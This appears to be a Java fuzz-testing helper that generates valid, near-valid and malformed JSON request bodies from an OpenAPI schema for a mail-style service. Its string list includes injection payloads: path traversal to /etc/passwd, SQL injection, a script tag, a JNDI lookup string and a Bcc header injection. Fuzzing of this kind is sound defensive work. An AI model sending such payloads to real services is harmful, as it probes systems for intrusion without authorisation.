package dev.posthouse.local.run;

import dev.posthouse.testbed.OpenApi;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.random.RandomGenerator;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/// Values that fit a schema of `openapi.yaml`, nearly fit it, or fit nothing.
final class Hostile {
  private static final JsonMapper JSON = JsonMapper.shared();
  private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
  private static final int DEPTH_MAX = 6;

  private static final List<String> TEXTS =
      List.of(
          "",
          " ",
          "\t\r\n",
          "a",
          "null",
          "true",
          "0",
          "-1",
          "1e999",
          "99999999999999999999",
          "{}",
          "[]",
          "\u0000",
          "a\u0000b",
          "\r\nBcc: eve@example.com",
          "../../etc/passwd",
          "..%2f..%2f",
          "%",
          "%00",
          "' OR '1'='1",
          "<script>alert(1)</script>",
          "${jndi:ldap://example.com/a}",
          "\u202eabc",
          "\u2066\u2069",
          "\ufeff",
          "\uffff",
          "\u0301\u0301\u0301",
          "📮".repeat(20),
          "𝕬𝖉𝖆",
          "ß",
          "İ",
          "\u1e9e@\u1e9e.example",
          "@",
          "a@",
          "@example.com",
          "a@b",
          "a@@example.com",
          "a..b@example.com",
          ".a@example.com",
          "\"a b\"@example.com",
          "a@[127.0.0.1]",
          "a@127.0.0.1",
          "a@xn--.example",
          "a@xn--a-\u00e4.example",
          "a@" + "b".repeat(64) + ".example",
          "a".repeat(65) + "@example.com",
          "a@" + "b.".repeat(130) + "example",
          "bob@example.com",
          "b\u00fccher@b\u00fccher.example",
          "job_00000000000000000000000000",
          "msg_" + "f".repeat(32),
          "conv_" + "0".repeat(16),
          "att_" + "0".repeat(16) + "_0",
          "att_" + "0".repeat(16) + "_999",
          "2026-02-30T00:00:00Z",
          "2026-01-01T00:00:00+25:00",
          "+1000000000-12-31T23:59:59.999999999Z",
          "-1000000000-01-01T00:00:00Z",
          "9999-12-31T23:59:59Z",
          "0000-01-01T00:00:00Z",
          "2031-05-14T09:00:00.123456789+14:00",
          "P1D",
          "head",
          "x".repeat(256),
          "x".repeat(1_025),
          "\u00e9".repeat(5_000),
          "x".repeat(100_000));

  private final OpenApi api = OpenApi.get();
  private final RandomGenerator random;

  Hostile(RandomGenerator random) {
    this.random = random;
  }

  boolean chance(int percent) {
    return random.nextInt(100) < percent;
  }

  <T> T one(List<T> of) {
    return of.get(random.nextInt(of.size()));
  }

  /// Any text at all.
  String text() {
    if (chance(80)) {
      return one(TEXTS);
    }
    var text = new StringBuilder();
    int length = random.nextInt(30);
    for (int i = 0; i < length; i++) {
      text.appendCodePoint(point());
    }
    return text.toString();
  }

  private int point() {
    int point = chance(50) ? random.nextInt(0x80) : random.nextInt(0x10ffff);
    return Character.isSurrogate((char) point) && point < 0x10000 ? '?' : point;
  }

  /// A value for that schema: right more often than not.
  JsonNode value(JsonNode schema) {
    return value(schema, 0);
  }

  private JsonNode value(JsonNode given, int depth) {
    JsonNode schema = api.resolved(given);
    if (depth > DEPTH_MAX || chance(8)) {
      return anything(depth);
    }
    if (schema.has("const")) {
      return schema.path("const");
    }
    if (schema.has("enum")) {
      return schema.path("enum").path(random.nextInt(schema.path("enum").size()));
    }
    if (schema.has("oneOf") && !schema.has("properties")) {
      return value(schema.path("oneOf").path(random.nextInt(schema.path("oneOf").size())), depth);
    }
    return switch (schema.path("type").asString("")) {
      case "object" -> object(schema, depth);
      case "array" -> array(schema, depth);
      case "integer", "number" -> number(schema);
      case "boolean" -> NODES.booleanNode(random.nextBoolean());
      default -> string(schema);
    };
  }

  private ObjectNode object(JsonNode schema, int depth) {
    ObjectNode object = NODES.objectNode();
    for (Map.Entry<String, JsonNode> property : schema.path("properties").properties()) {
      boolean required =
          schema
              .path("required")
              .valueStream()
              .anyMatch(it -> it.asString().equals(property.getKey()));
      if (chance(required ? 92 : 30)) {
        object.set(property.getKey(), value(property.getValue(), depth + 1));
      }
    }
    if (chance(6)) {
      object.set(one(List.of("unknown", "__proto__", "", "to ", "TO", "$ref")), anything(depth));
    }
    return object;
  }

  private ArrayNode array(JsonNode schema, int depth) {
    ArrayNode array = NODES.arrayNode();
    int max = schema.path("maxItems").asInt(5);
    int size = chance(90) ? random.nextInt(4) : max + random.nextInt(2);
    for (int i = 0; i < size; i++) {
      array.add(value(schema.path("items"), depth + 1));
    }
    return array;
  }

  private JsonNode number(JsonNode schema) {
    long min = schema.path("minimum").asLong(0);
    long max = schema.path("maximum").asLong(1_000);
    return switch (random.nextInt(10)) {
      case 0 -> NODES.numberNode(min - 1);
      case 1 -> NODES.numberNode(max + 1);
      case 2 -> NODES.numberNode(Long.MAX_VALUE);
      case 3 -> NODES.numberNode(1.5);
      case 4 -> NODES.numberNode(max);
      default -> NODES.numberNode(min + random.nextLong(Math.max(1, max - min)));
    };
  }

  private JsonNode string(JsonNode schema) {
    int max = schema.path("maxLength").asInt(0);
    if (max > 0 && chance(10)) {
      return NODES.stringNode("x".repeat(max + random.nextInt(2)));
    }
    if (schema.path("format").asString("").equals("date-time") && chance(60)) {
      return NODES.stringNode("2031-05-1" + random.nextInt(10) + "T10:00:00.000Z");
    }
    return NODES.stringNode(chance(40) ? one(List.of("bob@example.com", "Hello", "a")) : text());
  }

  /// A value that fits nothing in particular.
  private JsonNode anything(int depth) {
    return switch (random.nextInt(9)) {
      case 0 -> NODES.nullNode();
      case 1 -> NODES.booleanNode(random.nextBoolean());
      case 2 -> NODES.numberNode(random.nextInt());
      case 3 -> NODES.numberNode(random.nextDouble() * 1e300);
      case 4 -> NODES.arrayNode();
      case 5 -> NODES.objectNode();
      case 6 -> depth > DEPTH_MAX ? NODES.nullNode() : NODES.arrayNode().add(anything(depth + 1));
      default -> NODES.stringNode(text());
    };
  }

  /// A body made from a right one.
  byte[] mutated(String example) {
    if (!example.startsWith("{")) {
      return chance(50) ? bytes(example + text()) : bytes(text());
    }
    ObjectNode object = (ObjectNode) JSON.readTree(example);
    int changes = 1 + random.nextInt(2);
    for (int i = 0; i < changes; i++) {
      List<String> names = new ArrayList<>(object.propertyNames());
      if (names.isEmpty() || chance(15)) {
        object.set(text(), anything(0));
      } else if (chance(20)) {
        object.remove(one(names));
      } else {
        object.set(one(names), anything(0));
      }
    }
    return json(object);
  }

  /// Bytes of that value, or of what looks like it.
  byte[] json(JsonNode value) {
    String text = value.toString();
    return switch (random.nextInt(60)) {
      case 0 -> bytes(text.substring(0, random.nextInt(text.length() + 1)));
      case 1 -> bytes(text + text);
      case 2 -> bytes("[" + text + "]");
      case 3 -> bytes("[".repeat(1_000 + random.nextInt(100_000)));
      case 4 -> bytes("{\"a\":".repeat(200) + "1" + "}".repeat(200));
      case 5 -> text.getBytes(StandardCharsets.UTF_16);
      case 6 -> broken(bytes(text));
      case 7 -> bytes("\ufeff" + text);
      case 8 -> bytes(text.replaceFirst(":\"", ":\"\\\\ud800"));
      case 9 -> bytes(text.replaceFirst("\\{", "{\"to\":1,\"to\":2,"));
      case 10 -> bytes("{\"a\":" + "9".repeat(5_000) + "}");
      case 11 -> new byte[0];
      case 12 -> bytes(text.replace("\"", "'"));
      default -> bytes(text);
    };
  }

  private byte[] broken(byte[] right) {
    if (right.length > 0) {
      right[random.nextInt(right.length)] = (byte) (0x80 + random.nextInt(0x80));
    }
    return right;
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
